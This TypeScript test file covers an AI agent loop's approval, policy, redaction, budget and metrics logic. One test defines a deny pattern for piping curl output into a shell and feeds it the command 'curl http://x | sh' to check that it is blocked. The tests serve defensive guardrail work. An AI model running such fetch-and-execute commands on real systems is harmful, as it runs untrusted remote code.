import type { ToolSpec } from "@edgeloop/protocol";
import { describe, expect, it } from "vitest";
import {
  advance,
  initialState,
  type LoopConfig,
  type LoopState,
} from "../../../durable-objects/conversation/core/index.js";
import { calls, ok, only, spec, TOOLS, text } from "./fixtures.js";

const NOW = 1_700_000_000_000;
const QUESTION: ToolSpec = { ...spec("question", { question: { type: "string" } }, ["question"]), kind: "builtin" };
const TIME: ToolSpec = { ...spec("get_current_time", {}), kind: "builtin" };
const ALL = [...TOOLS, QUESTION, TIME];

function start(config: Partial<LoopConfig> = {}, tools = ALL) {
  return advance(
    initialState("conv-1", "pi-1", config),
    { type: "user_message", message_id: "m1", text: "go", tools },
    NOW,
  );
}
function llm(s: LoopState): string {
  return s.run!.awaiting_llm!;
}
function toolMessages(s: LoopState): string[] {
  return s.messages.filter((m) => m.role === "tool").map((m) => (m as { content: string }).content);
}

describe("loop core: approvals (policy requires_approval)", () => {
  const config = { policies: { bash: "requires_approval" as const } };

  it("holds an approval-required call, emits approval_required, and dispatches once approved", () => {
    const a = start(config);
    const b = advance(
      a.state,
      { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "reboot" }, "c1"]) },
      NOW,
    );
    expect(only(b.effects, "dispatch_tool")).toHaveLength(0);
    expect(only(b.effects, "emit_event").map((e) => e.event.type)).toContain("approval_required");
    const approvalDeadline = only(b.effects, "set_deadline")[0]!;
    expect(approvalDeadline.at).toBe(NOW + 60 * 60 * 1000);
    const c = advance(b.state, { type: "approval", tool_call_id: "c1", approve: true }, NOW + 5000);
    expect(only(c.effects, "dispatch_tool")).toMatchObject([{ tool: "bash", parameters: { command: "reboot" } }]);
    // The tool's own timeout starts at dispatch, not while waiting for a person.
    expect(only(c.effects, "set_deadline").find((d) => d.key.startsWith("tool:"))!.at).toBe(
      NOW + 5000 + 30_000 + 15_000,
    );
    // A second approval changes nothing.
    expect(advance(c.state, { type: "approval", tool_call_id: "c1", approve: true }, NOW).effects).toEqual([]);
  });

  it("turns a denial into a blocked result the model sees", () => {
    const a = start(config);
    const b = advance(
      a.state,
      { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "reboot" }, "c1"]) },
      NOW,
    );
    const c = advance(b.state, { type: "approval", tool_call_id: "c1", approve: false, reason: "not now" }, NOW);
    expect(only(c.effects, "dispatch_tool")).toHaveLength(0);
    expect(JSON.parse(toolMessages(c.state)[0]!)).toEqual({
      status: "blocked",
      tool: "bash",
      reason: "Denied by a person: not now",
    });
    expect(only(c.effects, "call_llm")).toHaveLength(1);
  });

  it("blocks the call when nobody approves it before the approval deadline", () => {
    const a = start(config);
    const b = advance(
      a.state,
      { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "x" }, "c1"]) },
      NOW,
    );
    const key = only(b.effects, "set_deadline")[0]!.key;
    const c = advance(b.state, { type: "deadline", key }, NOW + 3_600_001);
    expect(toolMessages(c.state)[0]).toContain("before its approval deadline");
  });

  it("runs auto calls of the same response while another waits for approval", () => {
    const a = start(config);
    const b = advance(
      a.state,
      {
        type: "llm_response",
        call_id: llm(a.state),
        turn: calls(["bash", { command: "x" }, "c1"], ["read", { path: "a" }, "c2"]),
      },
      NOW,
    );
    expect(only(b.effects, "dispatch_tool").map((d) => d.tool)).toEqual(["read"]);
  });
});

describe("loop core: hooks and policies", () => {
  it("before_tool_call: a deny pattern blocks the call before it reaches the device", () => {
    const a = start({ deny_patterns: { bash: ["curl\\s+.*\\|\\s*sh"] } });
    const b = advance(
      a.state,
      { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "curl http://x | sh" }, "c1"]) },
      NOW,
    );
    expect(only(b.effects, "dispatch_tool")).toHaveLength(0);
    expect(JSON.parse(toolMessages(b.state)[0]!)).toMatchObject({ status: "blocked", tool: "bash" });
    expect(b.state.run === null || b.state.run.tool_calls[0]!.status === "blocked").toBe(true);
  });

  it("before_tool_call: parameter overrides rewrite the call", () => {
    const a = start({ param_overrides: { read: { limit: 10 } } });
    const b = advance(
      a.state,
      { type: "llm_response", call_id: llm(a.state), turn: calls(["read", { path: "a", limit: 5000 }, "c1"]) },
      NOW,
    );
    expect(only(b.effects, "dispatch_tool")[0]!.parameters).toEqual({ path: "a", limit: 10 });
  });

  it("tool_result_persist: secrets are redacted from the stored history and events", () => {
    const a = start();
    const b = advance(
      a.state,
      { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "env" }, "c1"]) },
      NOW,
    );
    const d = only(b.effects, "dispatch_tool")[0]!;
    const secret = "sk-abcdefghijklmnopqrstuvwxyz123456";
    const c = advance(
      b.state,
      {
        type: "tool_result",
        tool_call_id: "c1",
        request_id: d.request_id,
        outcome: ok("bash", `OPENAI_API_KEY=${secret}\nHOME=/root`),
      },
      NOW,
    );
    expect(toolMessages(c.state)[0]).toBe("OPENAI_API_KEY=[REDACTED]\nHOME=/root");
    expect(JSON.stringify(c.effects)).not.toContain(secret);
  });
});

describe("loop core: built-in tools and questions", () => {
  it("sends built-in tools to the orchestrator, not to the device", () => {
    const a = start();
    const b = advance(
      a.state,
      { type: "llm_response", call_id: llm(a.state), turn: calls(["get_current_time", {}, "c1"]) },
      NOW,
    );
    expect(only(b.effects, "dispatch_tool")).toHaveLength(0);
    expect(only(b.effects, "run_builtin")).toMatchObject([{ tool: "get_current_time", tool_call_id: "c1" }]);
  });

  it("a question waits durably for the user's answer", () => {
    const a = start();
    const b = advance(
      a.state,
      { type: "llm_response", call_id: llm(a.state), turn: calls(["question", { question: "Which branch?" }, "q1"]) },
      NOW,
    );
    expect(only(b.effects, "run_builtin")).toHaveLength(0);
    expect(only(b.effects, "emit_event").find((e) => e.event.type === "question")!.event).toMatchObject({
      toolCallId: "q1",
      question: "Which branch?",
    });
    expect(only(b.effects, "set_deadline")[0]!.at).toBe(NOW + 24 * 3600 * 1000);
    const c = advance(b.state, { type: "answer", tool_call_id: "q1", text: "main" }, NOW);
    expect(toolMessages(c.state)).toEqual(["main"]);
    expect(only(c.effects, "call_llm")).toHaveLength(1);
  });

  it("a question past its deadline becomes a timeout the model can explain", () => {
    const a = start();
    const b = advance(
      a.state,
      { type: "llm_response", call_id: llm(a.state), turn: calls(["question", { question: "?" }, "q1"]) },
      NOW,
    );
    const c = advance(b.state, { type: "deadline", key: only(b.effects, "set_deadline")[0]!.key }, NOW + 86_400_001);
    expect(toolMessages(c.state)[0]).toContain("No answer from the user");
    expect(only(c.effects, "cancel_tool")).toHaveLength(0);
  });
});

describe("loop core: budgets and citations", () => {
  it("stops at the token budget and asks for a summary without tools", () => {
    const a = start({ max_tokens: 100 });
    const turn = { ...calls(["bash", { command: "x" }, "c1"]), usage: { prompt_tokens: 90, completion_tokens: 20 } };
    const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn }, NOW);
    expect(only(b.effects, "dispatch_tool")).toHaveLength(0);
    expect(only(b.effects, "call_llm")).toEqual([{ type: "call_llm", call_id: llm(b.state), with_tools: false }]);
    const c = advance(b.state, { type: "llm_response", call_id: llm(b.state), turn: text("Summary.") }, NOW);
    expect(only(c.effects, "reply")[0]!.reply).toMatchObject({ stop_reason: "budget" });
    expect(only(c.effects, "reply")[0]!.reply.reply).toContain("budget (100 tokens)");
  });

  it("a wall-time budget deadline stops running tools and summarises", () => {
    const a = start({ max_wall_ms: 60_000 });
    const budget = only(a.effects, "set_deadline")[0]!;
    expect(budget.at).toBe(NOW + 60_000);
    const b = advance(
      a.state,
      { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "sleep 999" }, "c1"]) },
      NOW,
    );
    const c = advance(b.state, { type: "deadline", key: budget.key }, NOW + 60_000);
    expect(only(c.effects, "cancel_tool")).toHaveLength(1);
    expect(only(c.effects, "call_llm")[0]!.with_tools).toBe(false);
  });

  it("adds Sources: when citations are on", () => {
    const a = start({ citations: true });
    const b = advance(
      a.state,
      { type: "llm_response", call_id: llm(a.state), turn: calls(["read", { path: "a" }, "c1"]) },
      NOW,
    );
    const d = only(b.effects, "dispatch_tool")[0]!;
    const c = advance(
      b.state,
      { type: "tool_result", tool_call_id: "c1", request_id: d.request_id, outcome: ok("read", "x") },
      NOW,
    );
    const e = advance(c.state, { type: "llm_response", call_id: llm(c.state), turn: text("It says x.") }, NOW);
    expect(only(e.effects, "reply")[0]!.reply.reply).toBe("It says x.\n\nSources: read");
  });

  it("per-conversation config from the message overrides the deployment's", () => {
    const s0 = initialState("c", "pi-1", { max_iterations: 10 });
    const a = advance(
      s0,
      { type: "user_message", message_id: "m", text: "x", tools: ALL, config: { max_iterations: 1 } },
      NOW,
    );
    const b = advance(
      a.state,
      { type: "llm_response", call_id: llm(a.state), turn: calls(["read", { path: "a" }, "c1"]) },
      NOW,
    );
    const d = only(b.effects, "dispatch_tool")[0]!;
    const c = advance(
      b.state,
      { type: "tool_result", tool_call_id: "c1", request_id: d.request_id, outcome: ok("read", "x") },
      NOW,
    );
    expect(only(c.effects, "call_llm")[0]!.with_tools).toBe(false);
  });
});

describe("loop core: run metrics", () => {
  it("counts parallel batches, max concurrency, wall time saved, tokens and duration", () => {
    const a = start({ max_parallel: 5 });
    const turn = {
      ...calls(["bash", { command: "a" }, "c1"], ["bash", { command: "b" }, "c2"]),
      usage: { prompt_tokens: 10, completion_tokens: 5 },
    };
    const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn }, NOW);
    const [d1, d2] = only(b.effects, "dispatch_tool");
    const slow = (r: string) => ({ ...ok("bash", r), elapsed_ms: 500 });
    const c = advance(
      b.state,
      { type: "tool_result", tool_call_id: "c1", request_id: d1!.request_id, outcome: slow("A") },
      NOW + 400,
    );
    const d = advance(
      c.state,
      { type: "tool_result", tool_call_id: "c2", request_id: d2!.request_id, outcome: slow("B") },
      NOW + 600,
    );
    const e = advance(
      d.state,
      {
        type: "llm_response",
        call_id: llm(d.state),
        turn: { ...text("done"), usage: { prompt_tokens: 20, completion_tokens: 7 } },
      },
      NOW + 700,
    );
    expect(only(e.effects, "reply")[0]!.reply.metrics).toEqual({
      duration_ms: 700,
      iterations: 2,
      tool_calls: 2,
      tool_errors: 0,
      tokens_in: 30,
      tokens_out: 12,
      parallel_batches: 1,
      max_concurrency: 2,
      wall_saved_ms: 400,
    });
  });
});
